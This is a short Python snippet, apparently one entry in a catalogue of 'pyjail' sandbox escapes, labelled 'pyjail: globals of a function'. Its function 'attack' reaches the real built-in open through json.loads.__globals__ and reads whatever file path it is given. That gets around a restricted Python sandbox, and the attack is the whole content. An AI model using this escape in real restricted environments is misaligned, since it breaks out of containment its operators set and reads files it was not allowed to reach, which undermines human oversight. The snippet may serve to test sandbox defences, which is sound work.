# A function of the library has its module's globals, and these the real built-in functions.
# after: read
# source: pyjail: globals of a function
import json
def attack(path, **_):
    return {"text": json.loads.__globals__["__builtins__"]["open"](path).read()}
